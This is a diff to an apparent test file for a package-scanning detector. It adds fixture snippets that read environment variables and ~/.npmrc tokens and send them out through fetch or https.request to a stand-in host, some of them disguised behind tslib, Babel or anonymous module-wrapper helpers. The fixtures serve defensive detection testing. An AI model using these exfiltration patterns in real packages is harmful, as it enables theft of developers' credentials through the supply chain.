@@ -322,6 +322,22 @@ const COMPILED: readonly Row[] = [
     'a spread object',
     'var __assign=(this&&this.__assign)||function(){__assign=Object.assign||function(t){return t};return __assign.apply(this,arguments)};SEND«JSON.stringify(__assign(__assign({},process.env),{a:1}))»',
   ],
+  [
+    'an async function, as ES5 has it',
+    "function rd(){return __awaiter(this,void 0,void 0,function(){return __generator(this,function(_a){switch(_a.label){case 0:return [4,x()];case 1:_a.sent();return [2,process.env]}})})} function go(){return __awaiter(this,void 0,void 0,function(){var d;return __generator(this,function(_a){switch(_a.label){case 0:return [4,rd()];case 1:d=_a.sent();return [4,fetch('x',{body:JSON.stringify(d)})];case 2:_a.sent();return [2]}})})} go()",
+  ],
+  [
+    'a module that a compiler wraps',
+    "const tslib_1=require('tslib');const fs=tslib_1.__importStar(require('fs'));SEND«fs.readFileSync(process.env.HOME+'/.npmrc')»",
+  ],
+  [
+    'a module that a helper of Babel wraps',
+    "var _i=require('@babel/runtime/helpers/interopRequireDefault');var _fs=_i(require('fs'));SEND«_fs.default.readFileSync(process.env.HOME+'/.npmrc')»",
+  ],
+  [
+    'a module that a helper wraps whose name is gone',
+    "var c=Object.create,d=Object.defineProperty,g=Object.getPrototypeOf;var h=(e,r)=>{for(let k of Object.getOwnPropertyNames(r))d(e,k,{get:()=>r[k]});return e};var i=(e,t,r)=>(r=e!=null?c(g(e)):{},h(t||!e||!e.__esModule?d(r,'default',{value:e,enumerable:!0}):r,e));var f=i(require('fs'));SEND«f.readFileSync(process.env.HOME+'/.npmrc')»",
+  ],
   ['a spread list', 'SEND«JSON.stringify(__spreadArray(__spreadArray([],[1],true),Object.entries(process.env),true))»'],
 ];
 
@@ -354,6 +370,25 @@ const CHANNELS: readonly Row[] = [
       'c.js': "exports.F='/'+['.npm','rc'].join('')",
     },
   ],
+  [
+    'modules that another one passes on',
+    {
+      'index.js':
+        "const {fs,os,https}=require('./deps');https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
+      'deps.js': "exports.fs=require('fs');exports.os=require('os');exports.https=require('https')",
+    },
+  ],
+  [
+    'modules that another one passes on by name',
+    {
+      'index.js':
+        "import {fs,os,https} from './deps.js';https.request('https://c.example',{method:'POST'}).end(fs.readFileSync(os.homedir()+'/.npmrc'))",
+      'deps.js':
+        "export {default as fs} from 'node:fs';export * as os from 'node:os';import https from 'node:https';export {https}",
+    },
+    { type: 'module' },
+  ],
+  ['what a report tells of the environment', 'SEND«JSON.stringify(process.report.getReport())»'],
   [
     'places that another module lists',
     {
